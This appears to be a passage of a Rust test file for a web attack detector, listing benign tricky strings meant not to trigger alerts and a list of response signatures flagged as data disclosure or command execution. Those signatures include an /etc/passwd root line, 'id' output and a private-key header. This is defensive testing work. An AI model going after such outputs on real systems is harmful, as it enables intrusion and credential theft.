        Request::header("Cookie", "lb=DU+/Kq7wXz4Yh1sVbN0pLmT2aGfE9cRjUo3WxZ5d; a=b"),
        Request::form("/posts", "body=%3Cp%3EA%20film%3A%3C%2Fp%3E%3Ciframe%20src%3D%22https%3A%2F%2Fvideo.example%2Fe%2F1%22%3E%3C%2Fiframe%3E"),
    ]);
    all
}

/// What people write, and programs that talk to each other.
const TEXTS: &[&str] = &[
    "O'Brien",
    "D'Angelo & Sons, Ltd.",
    "Rock 'n' Roll; drum'n'bass",
    "It's a dog's life, isn't it?",
    "Please select a colour from the list and order by Friday, or drop us a line.",
    "The union selects its delegates; members update their address where needed.",
    "Insert the coin into the slot, then delete the message from the machine.",
    "We had 2 or 3 tables and 1 chair = 4 items",
    "Salt & pepper; cat and dog | bird",
    "5 > 3 and 2 < 4, so a <b or c> d",
    "I love you <3 --- see you at 8;-)",
    "# Heading\n\n* one\n* two\n\n```sh\ncargo test\n```\n\nSee [the page](https://example.org/a?b=c#d) -- thanks!",
    "Use `let x = 5;` or `x += 1` in the loop",
    "if (ready) { return first; }",
    "function add(a, b) {\n  return a + b;\n}",
    "<p>Hello <strong>world</strong>, <a href=\"https://example.org/\">read on</a>.</p>",
    "<p style=\"text-align: center\"><img src=\"https://example.org/a.png\" alt=\"A\"></p><!-- more -->",
    "Dear all,\nthe meeting is on Monday.\nTo: everybody\nRegards, Tom",
    "Price: $5.00 (was $7.50) 20% off!",
    "C:\\Users\\anna\\Documents\\cv.docx",
    "1600 Pennsylvania Ave NW, Washington, DC 20500",
    "+49 (0)30 1234-567 / ext. 8",
    "https://www.example.org/path/to/page?x=1&y=2#frag",
    "http://shop.example.org/images/a.jpg",
    "mailto:anna@example.org",
    "user+tag@sub.example.co.uk",
    "2024-05-01T12:00:00+02:00",
    "aGVsbG8gd29ybGQsIHRoaXMgaXMgYmFzZTY0IHRleHQ=",
    "550e8400-e29b-41d4-a716-446655440000",
    "{\"filter\":{\"price\":{\"lt\":30}},\"sort\":[\"name\",\"asc\"]}",
    "Привет, мир! Как дела?",
    "価格を比較する — 東京",
    "Größe: 42, Farbe: weiß; ‚Anführung‘",
    "C++ or C#, Node.js too",
    "What is the id of the host? ping me; echo it back",
    "Passwords like P@ss;w0rd'# or \"x\" are fine",
    "SELECT is a keyword of SQL",
    "How to script a play: alert the audience, prompt the actors, confirm the date",
    "onclick handlers and javascript are explained in chapter 3",
    "The file ../README explains it",
    "and/or, either/or, him/her; true = yes, false = no",
    "sleep 8 hours, cat nap 20 minutes",
    "{{ user.name }} will be replaced by the name",
    "R&D: 10 * 2 = 20; 7-2=5",
    "今天（周一）休息；明天呢？“好的”，他说。ＡＢＣ１２３",
    "He wrote \"yes or no\" and 2 = 2 was all he meant",
    "A union select committee from the north met on Tuesday",
    "60% wool and 40% silk.",
    "(0316) 22/41-17",
    "src/*",
    "12 -- the number of apostles, and of months in a year",
    "{\"where\":{\"and\":[{\"name\":{\"like\":\"drop it%\"}}]}}",
    "Install it:\n\ncurl -L https://example.org/a.tgz\ntar xf a.tgz\n\nThen edit /etc/nginx/nginx.conf",
    "Both `setTimeout` and `setInterval()` take a function; `uname`, `id` and `hostname` print a line.",
    "TypeError: cannot read 'document.cookie.split' of undefined",
    "Run `make`; if it fails, ask Ann",
    "const View = () => <Page onBack={back} title=\"x\" />",
    "for (;;) { if (a || k === n) break }",
    "VOIL\u{c0}, \u{e0} la carte; \u{c1}rbol",
    "DU+/Kq7wXz4Yh1sVbN0pLmT2aGfE9cRj",
    "/search?q=\"red shoes\"&page=2",
    "java.lang is a package; php is a language; bash is a shell",
];

const LEAKS: &[(&str, &str)] = &[
    ("attack-disclosure", "<p>You have an error in your SQL syntax; check the manual</p>"),
    ("attack-disclosure", "ORA-00933: SQL command not properly ended"),
    ("attack-disclosure", "<pre>\tat org.example.App.run(App.java:17)\n</pre>"),
    (
        "attack-disclosure",
        "<b>Warning</b>:  include(x.php): failed in <b>/var/www/a.php</b> on line <b>3</b>",
    ),
    ("attack-disclosure", "<h1>Server Error in '/' Application.</h1>"),
    ("attack-disclosure", "Traceback (most recent call last):\n  File \"app.py\", line 1"),
    ("attack-disclosure", "<html><head><title>Index of /backup</title></head>"),
    ("attack-disclosure", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl"),
    ("attack-rce", "root:x:0:0:root:/root:/bin/bash\n"),
    ("attack-rce", "uid=33(www-data) gid=33(www-data) groups=33(www-data)"),
];

const PAGES: &[&str] = &[
    "<html><head><title>Index</title></head><body>An error occurred. Please try again.</body></html>",
    "<p>Learn SQL: <code>SELECT name FROM people</code>, Java exceptions and &lt;?php tags</p>",
    "{\"error\":\"not found\",\"status\":404}",
    "<pre>-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----</pre>",
];
